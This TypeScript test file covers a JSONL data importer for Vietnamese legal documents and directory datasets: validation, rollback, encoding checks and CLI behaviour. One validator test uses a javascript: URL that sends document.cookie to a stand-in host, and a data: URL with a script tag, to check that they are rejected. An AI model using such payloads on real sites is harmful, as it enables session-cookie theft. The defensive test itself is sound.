import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Db } from '../../src/db/db';
import { migrate } from '../../src/db/migrate';
import { openDb } from '../../src/db/open-db';
import { loadAdminUnits } from '../../src/data/admin-units';
import { generateDirectory } from '../../src/data/directory-generator';
import { fileLines } from '../../src/data/file-lines';
import { importJsonl } from '../../src/data/import-jsonl';
import { IMPORT_TARGETS } from '../../src/data/import-targets';
import { generateLegalCorpus } from '../../src/data/legal-corpus';
import { legalAgencies } from '../../src/upstreams/legal/legal-seed';
import { ManualClock } from '../../src/util/clock';
import { projectRoot } from '../../src/util/project-root';
import { TEST_DATABASES } from '../support/databases';
import { createE2eSchema } from '../e2e/product-process';

const jsonl = (rows: unknown[]): string => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';

function legalRows(n: number): Record<string, unknown>[] {
  const { documents } = generateLegalCorpus({ seed: 11, agencies: legalAgencies(), withContent: false }, n);
  return documents.map((d, i) => ({ ...d, cites: i > 0 ? [documents[0]!.id] : [] }));
}

function bailiffRows(): Record<string, unknown>[] {
  return generateDirectory(5, 0.05, loadAdminUnits())
    .filter((r) => r.dataset === 'bailiff-offices')
    .map(({ dataset: _dataset, ...rest }) => rest);
}

describe.each(TEST_DATABASES)('importer on $name', (tdb) => {
  let db: Db;
  const count = async (sql: string): Promise<number> => (await db.query<{ n: number }>(sql)).rows[0]!.n;

  beforeAll(async () => {
    db = await tdb.open();
    for (const set of ['legal', 'directory', 'mof-catalogs']) await migrate(db, set);
  }, 120_000);
  afterAll(async () => {
    await db?.close();
  });

  describe('happy paths', () => {
    it('loads legal documents with their relations, and loading the file again changes nothing', async () => {
      const file = jsonl(legalRows(30));
      const first = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, file);
      expect(first).toEqual({ ok: true, rows: 30, loaded: 30, errors: [], truncated: false });
      expect(await count('SELECT count(*)::int AS n FROM legal_documents')).toBe(30);
      expect(
        await count("SELECT count(*)::int AS n FROM legal_document_relations WHERE kind = 'cites'"),
      ).toBe(29);
      // Each row's version (xmin moves whenever a row is written) and updated_at.
      const versions = async (): Promise<string[]> =>
        (
          await db.query<{ v: string }>(
            `SELECT d.xmin::text || ' ' || d.updated_at::text AS v FROM legal_documents d
             UNION ALL SELECT r.xmin::text FROM legal_document_relations r ORDER BY 1`,
          )
        ).rows.map((r) => r.v);
      const before = await versions();
      await importJsonl(db, IMPORT_TARGETS['legal-documents']!, file);
      expect(await count('SELECT count(*)::int AS n FROM legal_documents')).toBe(30);
      expect(
        await count("SELECT count(*)::int AS n FROM legal_document_relations WHERE kind = 'cites'"),
      ).toBe(29);
      expect(await versions()).toEqual(before);
    });

    it('stores text written decomposed (NFD) in composed form, as search and preview count letters', async () => {
      const [a] = legalRows(1).map((r) => ({ ...r, id: (r.id as string) + 'd' }));
      const name = 'Luật Phú Mỹ về thuế';
      const r = await importJsonl(
        db,
        IMPORT_TARGETS['legal-documents']!,
        jsonl([{ ...a, name: name.normalize('NFD'), content_html: '<p>Điều 1</p>'.normalize('NFD') }]),
      );
      expect(r.ok).toBe(true);
      const stored = (
        await db.query<{ name: string; content_html: string }>(
          'SELECT name, content_html FROM legal_documents WHERE id = $1',
          [a!.id],
        )
      ).rows[0]!;
      expect(stored).toEqual({ name: name.normalize('NFC'), content_html: '<p>Điều 1</p>'.normalize('NFC') });
      expect(name.normalize('NFD')).not.toBe(name.normalize('NFC'));
    });

    it('updates existing rows in place', async () => {
      const rows = legalRows(2);
      await importJsonl(db, IMPORT_TARGETS['legal-documents']!, jsonl(rows));
      await importJsonl(
        db,
        IMPORT_TARGETS['legal-documents']!,
        jsonl([{ ...rows[0], name: 'Luật Thử nghiệm nhập dữ liệu' }]),
      );
      const r = await db.query<{ name: string }>('SELECT name FROM legal_documents WHERE id = $1', [
        rows[0]!.id,
      ]);
      expect(r.rows[0]!.name).toBe('Luật Thử nghiệm nhập dữ liệu');
      // The file is the truth for a document's outgoing relations: one it no longer names goes.
      const cited = await db.query<{ to_id: string }>(
        "SELECT to_id FROM legal_document_relations WHERE from_id = $1 AND kind = 'cites'",
        [rows[1]!.id],
      );
      expect(cited.rows).toHaveLength(1);
      await importJsonl(db, IMPORT_TARGETS['legal-documents']!, jsonl([{ ...rows[1], cites: [] }]));
      const left = await db.query('SELECT 1 FROM legal_document_relations WHERE from_id = $1', [rows[1]!.id]);
      expect(left.rows).toHaveLength(0);
    });

    it('loads directory and catalogue rows into the named dataset', async () => {
      const rows = bailiffRows();
      expect((await importJsonl(db, IMPORT_TARGETS['bailiff-offices']!, jsonl(rows))).ok).toBe(true);
      expect(
        await count(
          "SELECT count(*)::int AS n FROM directory_organisations WHERE dataset = 'bailiff-offices'",
        ),
      ).toBe(rows.length);
      const mof = [
        { id: 'lhdv_x1', code: '01', name: 'Trụ sở chính' },
        { id: 'lhdv_x2', code: '02', name: 'Chi nhánh', is_active: false },
      ];
      expect((await importJsonl(db, IMPORT_TARGETS['dmdc-business-unit-types']!, jsonl(mof))).loaded).toBe(2);
    });
  });

  describe('errors', () => {
    it('reports bad JSON with its line number and loads nothing', async () => {
      const rows = legalRows(3).map((r) => ({ ...r, id: (r.id as string) + 'j' }));
      const text = [JSON.stringify(rows[0]), '{"id": "vb_x",', JSON.stringify(rows[1])].join('\n');
      const r = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, text);
      expect(r.ok).toBe(false);
      expect(r.loaded).toBe(0);
      expect(r.errors).toEqual([{ line: 2, message: expect.stringMatching(/invalid JSON/) }]);
      expect(await count(`SELECT count(*)::int AS n FROM legal_documents WHERE id LIKE '%j'`)).toBe(0);
    });

    it('reports wrong types, unknown fields and bad dates per line', async () => {
      const [a, b, c, d] = legalRows(4).map((r) => ({ ...r, id: (r.id as string) + 't' }));
      const text = jsonl([
        { ...a, type_id: 'six' },
        b,
        { ...c, issued_date: '2024-02-30' },
        { ...d, colour: 'red' },
      ]);
      const r = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, text);
      expect(r.errors.map((e) => e.line)).toEqual([1, 3, 4]);
      expect(r.errors[0]!.message).toMatch(/type_id/);
      expect(r.errors[1]!.message).toMatch(/issued_date/);
      expect(await count(`SELECT count(*)::int AS n FROM legal_documents WHERE id LIKE '%t'`)).toBe(0);
    });

    it('reports duplicate ids within the file with both lines', async () => {
      const rows = bailiffRows().slice(0, 3);
      const r = await importJsonl(
        db,
        IMPORT_TARGETS['notary-offices']!,
        jsonl(rows.map((x) => ({ ...x, id: (x.id as string).replace('tc_', 'cc_') }))),
      );
      expect(r.ok).toBe(true);
      const dup = jsonl([
        { ...rows[0], id: 'cc_dup' },
        { ...rows[1], id: 'cc_other' },
        { ...rows[2], id: 'cc_dup' },
      ]);
      const bad = await importJsonl(db, IMPORT_TARGETS['notary-offices']!, dup);
      expect(bad.errors).toEqual([{ line: 3, message: 'duplicate id cc_dup (first on line 1)' }]);
      expect(
        await count(
          "SELECT count(*)::int AS n FROM directory_organisations WHERE id IN ('cc_dup', 'cc_other')",
        ),
      ).toBe(0);
    });

    it('rejects ids of another dataset', async () => {
      const r = await importJsonl(db, IMPORT_TARGETS['law-firms']!, jsonl(bailiffRows().slice(0, 1)));
      expect(r.errors[0]!.message).toMatch(/must start with ls_/);
    });

    it('names the line and the value of every unknown catalogue id, also after an earlier bad line, and loads nothing', async () => {
      const rows: Record<string, unknown>[] = legalRows(1200).map((r) => ({
        ...r,
        id: (r.id as string) + 'm',
      }));
      rows[2] = { ...rows[2]!, code: 7 };
      rows[700] = { ...rows[700]!, agency_id: 99999 };
      rows[849] = { ...rows[849]!, type_id: 9999, status_id: 77 };
      const r = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, jsonl(rows));
      expect(r.ok).toBe(false);
      expect(r.errors).toEqual([
        { line: 3, message: expect.stringMatching(/^code: /) },
        { line: 701, message: 'agency_id: 99999 is not a known issuing agency (GET /v1/catalogs/agencies)' },
        {
          line: 850,
          message:
            'type_id: 9999 is not a known document type (GET /v1/catalogs/document-types); ' +
            'status_id: 77 is not a known validity status (GET /v1/catalogs/statuses)',
        },
      ]);
      expect(await count(`SELECT count(*)::int AS n FROM legal_documents WHERE id LIKE '%m'`)).toBe(0);
    });

    it('loads nothing when a batch in the middle of a large file fails in the database', async () => {
      const legal = IMPORT_TARGETS['legal-documents']!;
      let batches = 0;
      const failing = {
        ...legal,
        async upsert(...args: Parameters<typeof legal.upsert>) {
          if (++batches === 2) throw new Error('disk full (test)');
          await legal.upsert(...args);
        },
      };
      const rows = legalRows(1200).map((r) => ({ ...r, id: (r.id as string) + 'z' }));
      const r = await importJsonl(db, failing, jsonl(rows));
      expect(r.ok).toBe(false);
      expect(r.errors[0]!.message).toBe('database rejected rows on lines 501-1000: disk full (test)');
      expect(await count(`SELECT count(*)::int AS n FROM legal_documents WHERE id LIKE '%z'`)).toBe(0);
    });

    it('refuses, each on its line, bytes that are not UTF-8, a lone surrogate, a NUL and a date-time that does not exist', async () => {
      const [a, b, c, d] = legalRows(4).map((r): Record<string, unknown> => ({
        ...r,
        id: (r.id as string) + 'u',
      }));
      const office = { ...bailiffRows()[0]!, id: 'tc_feb30', updated_at: '2025-02-30T00:00:00Z' };
      const dir = mkdtempSync(join(tmpdir(), 'import-text-'));
      try {
        const legal = join(dir, 'legal.jsonl');
        const [lineA, lineB] = [JSON.stringify(a), JSON.stringify({ ...b, name: 'lone \ud800 surrogate' })];
        const lineC = JSON.stringify({ ...c, name: 'a\u0000b' });
        // Line 1 carries raw bytes that are not UTF-8 inside its name.
        const bad = Buffer.from(lineA.replace(/"name":"/, '"name":"\u0001'), 'utf8');
        const at = bad.indexOf(0x01);
        bad[at] = 0xff;
        writeFileSync(
          legal,
          Buffer.concat([bad, Buffer.from(`\n${lineB}\n${lineC}\n${JSON.stringify(d)}\n`)]),
        );
        const r = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, fileLines(legal));
        expect(r.errors).toEqual([
          { line: 1, message: expect.stringMatching(/^name: text that is not UTF-8/) },
          { line: 2, message: expect.stringMatching(/^name: a lone UTF-16 surrogate/) },
          { line: 3, message: expect.stringMatching(/^name: a NUL character/) },
        ]);
        expect(await count(`SELECT count(*)::int AS n FROM legal_documents WHERE id LIKE '%u'`)).toBe(0);
        const offices = await importJsonl(db, IMPORT_TARGETS['bailiff-offices']!, jsonl([office]));
        expect(offices.errors).toEqual([
          { line: 1, message: 'updated_at: must be a real ISO date-time with zone' },
        ]);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });

    it('refuses, each on its line, a source_url a browser would run and a sort_order past what the column holds', async () => {
      const [a, b, c] = legalRows(3).map((r) => ({ ...r, id: (r.id as string) + 'u' }));
      const r = await importJsonl(
        db,
        IMPORT_TARGETS['legal-documents']!,
        jsonl([
          { ...a, source_url: "javascript:fetch('//x/'+document.cookie)" },
          { ...b, source_url: 'https://vanban.example.vn/a' },
          { ...c, source_url: 'data:text/html,<script>1</script>' },
        ]),
      );
      expect(r.errors).toEqual([
        { line: 1, message: 'source_url: must be an http:// or https:// URL' },
        { line: 3, message: 'source_url: must be an http:// or https:// URL' },
      ]);
      const mof = await importJsonl(
        db,
        IMPORT_TARGETS['dmdc-share-types']!,
        jsonl([{ id: 'lcp_big', code: 'X', name: 'Lớn', sort_order: 3_000_000_000 }]),
      );
      expect(mof.errors).toEqual([{ line: 1, message: expect.stringMatching(/^sort_order: /) }]);
    });

    it('refuses a row nested deeper than any dataset has, on its line, rather than run out of stack', async () => {
      const [a] = legalRows(1).map((r) => ({ ...r, id: (r.id as string) + 'n' }));
      const line = JSON.stringify(a).replace(
        /"cites":\[\]/,
        `"cites":${'['.repeat(200_000)}${']'.repeat(200_000)}`,
      );
      expect(line.length).toBeGreaterThan(400_000);
      const r = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, line + '\n');
      expect(r.errors).toEqual([
        { line: 1, message: expect.stringMatching(/nested deeper than 32 levels$/) },
      ]);
    });

    it('writes a batch once its lines hold the most characters a statement may carry, not only every 500 rows', async () => {
      const target = IMPORT_TARGETS['legal-documents']!;
      const sizes: number[] = [];
      const counting = {
        ...target,
        upsert: (
          tx: Parameters<typeof target.upsert>[0],
          rows: Parameters<typeof target.upsert>[1],
          now: number,
        ) => {
          sizes.push(rows.length);
          return target.upsert(tx, rows, now);
        },
      };
      const rows = legalRows(7).map((r) => ({
        ...r,
        id: (r.id as string) + 'c',
        content_html: `<p>${'Điều. '.repeat(500)}</p>`,
      }));
      const r = await importJsonl(db, counting, jsonl(rows), 100, undefined, 9_000);
      expect([r.ok, r.loaded]).toEqual([true, 7]);
      // Each line holds over 3,000 characters: a batch is written at the third.
      expect(sizes).toEqual([3, 3, 1]);
    });

    it('reads past a byte-order mark, says "required" for a missing field, and refuses a record too large to serve', async () => {
      const [a, b, c] = legalRows(3).map((r): Record<string, unknown> => ({
        ...r,
        id: (r.id as string) + 'b',
      }));
      const { name: _dropped, ...nameless } = b!;
      const huge = { ...c!, content_html: 'x'.repeat(17 * 1024 * 1024) };
      const r = await importJsonl(
        db,
        IMPORT_TARGETS['legal-documents']!,
        '\uFEFF' + jsonl([a, nameless, huge]),
      );
      expect(r.errors).toEqual([
        { line: 2, message: 'name: required' },
        { line: 3, message: expect.stringMatching(/^record of 17\.0 MiB: at most 16\.0 MiB/) },
      ]);
    });
  });
});

describe.each(TEST_DATABASES)('importer, legal catalogues, on $name', (tdb) => {
  let db: Db;
  beforeAll(async () => {
    db = await tdb.open();
    await migrate(db, 'legal');
  }, 120_000);
  afterAll(async () => {
    await db?.close();
  });
  const names = async (table: string): Promise<string[]> =>
    (await db.query<{ name: string }>(`SELECT name FROM ${table} ORDER BY id`)).rows.map((r) => r.name);

  it('loads real agencies, document types and law fields that documents then name, without sample rows beside them', async () => {
    const agencies = [
      { id: 1, name: 'Quốc hội', short_name: 'QH', level: 'central' },
      { id: 7001, name: 'Ủy ban nhân dân xã Hòa Bình' },
    ];
    expect((await importJsonl(db, IMPORT_TARGETS['catalogs/agencies']!, jsonl(agencies))).loaded).toBe(2);
    const types = [{ id: 3, name: 'Luật', code: 'L' }];
    expect((await importJsonl(db, IMPORT_TARGETS['catalogs/document-types']!, jsonl(types))).ok).toBe(true);
    const fields = [{ id: 40, name: 'Đất đai' }];
    expect((await importJsonl(db, IMPORT_TARGETS['catalogs/law-fields']!, jsonl(fields))).ok).toBe(true);
    const [doc] = legalRows(1);
    const real = { ...doc, id: 'vb_real1', type_id: 3, field_id: 40, agency_id: 7001, cites: [] };
    const loaded = await importJsonl(db, IMPORT_TARGETS['legal-documents']!, jsonl([real]));
    expect(loaded.errors).toEqual([]);
    expect(await names('legal_agencies')).toEqual(['Quốc hội', 'Ủy ban nhân dân xã Hòa Bình']);
    expect(await names('legal_document_types')).toEqual(['Luật']);
    expect(await names('legal_fields')).toEqual(['Đất đai']);
    // An id no catalogue holds is still named by line, and a catalogue row is checked like any other.
    const stray = await importJsonl(
      db,
      IMPORT_TARGETS['legal-documents']!,
      jsonl([{ ...real, agency_id: 7002 }]),
    );
    expect(stray.errors[0]!.message).toMatch(/^agency_id: 7002 is not a known issuing agency/);
    const bad = await importJsonl(
      db,
      IMPORT_TARGETS['catalogs/agencies']!,
      jsonl([
        { id: 0, name: '' },
        { id: 1, name: 'Quốc hội', x: 1 },
      ]),
    );
    expect(bad.errors.map((e) => e.line)).toEqual([1, 2]);
  });

  it('stores a document "not yet in effect" whose effective date has come (Vietnam time) as in effect, the same on every load', async () => {
    const [a, b] = legalRows(2);
    // The catalogue ids the test above loaded.
    const real = { type_id: 3, field_id: 40, agency_id: 7001 };
    const rows = [
      { ...a, ...real, id: 'vb_due1', status_id: 4, effective_date: '2026-03-01', cites: [] },
      { ...b, ...real, id: 'vb_later1', status_id: 4, effective_date: '2026-03-02', cites: [] },
    ];
    // 00:30 on 1 March 2026 in Vietnam, still 28 February in UTC.
    const clock = new ManualClock(Date.parse('2026-03-01T00:30:00+07:00'));
    const statuses = async () =>
      (
        await db.query<{ id: string; status_id: number }>(
          "SELECT id, status_id FROM legal_documents WHERE id IN ('vb_due1', 'vb_later1') ORDER BY id",
        )
      ).rows.map((r) => [r.id, r.status_id]);
    const versions = async () =>
      (await db.query<{ x: string }>("SELECT xmin::text AS x FROM legal_documents WHERE id = 'vb_due1'"))
        .rows;
    expect((await importJsonl(db, IMPORT_TARGETS['legal-documents']!, jsonl(rows), 100, clock)).ok).toBe(
      true,
    );
    expect(await statuses()).toEqual([
      ['vb_due1', 1],
      ['vb_later1', 4],
    ]);
    const before = await versions();
    await importJsonl(db, IMPORT_TARGETS['legal-documents']!, jsonl(rows), 100, clock);
    expect(await versions()).toEqual(before);
  });
});

describe('npm run import', () => {
  const run = promisify(execFile);
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'import-cli-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const cli = async (args: string[], databaseUrl = ''): Promise<{ code: number; out: string }> => {
    const env = { ...process.env, DATA_DIR: join(dir, 'db'), DATABASE_URL: databaseUrl };
    try {
      const r = await run(
        join(projectRoot(), 'node_modules', '.bin', 'tsx'),
        [join(projectRoot(), 'src', 'cli', 'import.ts'), ...args],
        { env },
      );
      return { code: 0, out: r.stdout + r.stderr };
    } catch (err) {
      const e = err as { code: number; stdout: string; stderr: string };
      return { code: e.code, out: e.stdout + e.stderr };
    }
  };

  it('exits 2 naming the datasets for a dataset it does not know, also one named like a property of every object', async () => {
    for (const name of ['nope', 'constructor', 'toString']) {
      const r = await cli([name, join(dir, 'absent.jsonl')]);
      expect([name, r.code, r.out]).toEqual([
        name,
        2,
        expect.stringContaining(`unknown dataset ${name}; one of: `),
      ]);
    }
  }, 90_000);

  it('exits 0 after loading a good file and 1 with line numbers for a bad one', async () => {
    const good = join(dir, 'good.jsonl');
    writeFileSync(good, jsonl([{ id: 'lcp_a', code: 'PT', name: 'Cổ phần phổ thông' }]));
    const ok = await cli(['dmdc-share-types', good]);
    expect(ok).toEqual({ code: 0, out: expect.stringContaining('loaded 1 row(s) into dmdc-share-types') });
    const bad = join(dir, 'bad.jsonl');
    writeFileSync(
      bad,
      jsonl([
        { id: 'lcp_b', code: 'X', name: 'ok' },
        { id: 'lcp_c', code: 7 },
      ]),
    );
    const failed = await cli(['dmdc-share-types', bad]);
    expect(failed.code).toBe(1);
    expect(failed.out).toMatch(/bad\.jsonl:2: /);
    expect(failed.out).toMatch(/nothing loaded/);
  }, 90_000);

  it('loads every line of a file larger than one read on PostgreSQL, where BEGIN takes a round trip', async () => {
    const schema = await createE2eSchema();
    try {
      const rows = legalRows(3000).map((r) => ({ ...r, id: (r.id as string) + 'p', cites: [] }));
      const file = join(dir, 'pg.jsonl');
      writeFileSync(file, jsonl(rows));
      const r = await cli(['legal-documents', file], schema.databaseUrl);
      expect(r).toEqual({ code: 0, out: expect.stringContaining('loaded 3000 row(s) into legal-documents') });
      const db = await openDb({ databaseUrl: schema.databaseUrl });
      try {
        const n = await db.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM legal_documents WHERE id LIKE '%p'`,
        );
        expect(n.rows[0]!.n).toBe(3000);
        // Analysed once and vacuumed once, for the relevance walk's index-only scan. Whether that
        // vacuum could mark the pages depends on the other suites' snapshots in the shared test
        // database, which this test cannot wait for from outside the CLI (analyze.test.ts checks
        // the marking itself).
        const table = await db.query<{ tuples: number; pages: number; vacuums: number; analyses: number }>(
          `SELECT c.reltuples AS tuples, c.relpages AS pages, s.vacuum_count AS vacuums, s.analyze_count AS analyses
             FROM pg_class c JOIN pg_stat_user_tables s ON s.relid = c.oid
            WHERE c.oid = to_regclass('legal_documents')`,
        );
        const { tuples, pages, vacuums, analyses } = table.rows[0]!;
        expect(Number(tuples)).toBeGreaterThanOrEqual(3000);
        expect(Number(pages)).toBeGreaterThan(8);
        expect([Number(vacuums), Number(analyses)]).toEqual([1, 1]);
      } finally {
        await db.close();
      }
    } finally {
      await schema.drop();
    }
  }, 120_000);

  it('refuses a PGlite directory a running process holds, and writes nothing', async () => {
    const dataDir = join(dir, 'db');
    const lock = join(dataDir, '.pglite.lock');
    // This test's process stands in for a server running on the directory.
    writeFileSync(lock, String(process.pid));
    try {
      const good = join(dir, 'while-running.jsonl');
      writeFileSync(good, jsonl([{ id: 'lcp_busy', code: 'B', name: 'Khi máy chủ đang chạy' }]));
      const busy = await cli(['dmdc-share-types', good]);
      expect(busy.code).toBe(1);
      expect(busy.out).toContain(`in use by process ${process.pid}`);
    } finally {
      rmSync(lock, { force: true });
    }
    const db = await openDb({ dataDir });
    try {
      const rows = await db.query(`SELECT id FROM mof_catalog_items WHERE id = 'lcp_busy'`);
      expect(rows.rows).toEqual([]);
    } finally {
      await db.close();
    }
  }, 90_000);
});
